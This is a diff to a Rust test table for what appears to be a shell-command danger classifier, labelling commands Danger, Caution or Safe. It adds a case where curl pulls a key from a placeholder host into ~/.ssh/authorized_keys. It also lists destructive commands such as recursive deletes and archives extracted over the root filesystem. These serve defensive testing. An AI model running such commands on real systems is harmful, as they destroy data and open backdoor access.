@@ -618,6 +618,8 @@ mod tests {
             ("time -p rm -rf /var/lib/couchdb", Danger),
             ("rm ~/Documents/*", Danger),
             ("rm -ri ~/old-projects", Caution),
+            ("curl -s https://x.example/k.pub >> ~/.ssh/authorized_keys", Danger),
+            ("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys", Safe),
             ("sudo unzip -o rootfs.zip -d /", Danger),
             ("unzip -o site.zip -d ./public", Caution),
             ("sudo cpio -idmu --no-absolute-filenames -D / < over.cpio", Danger),
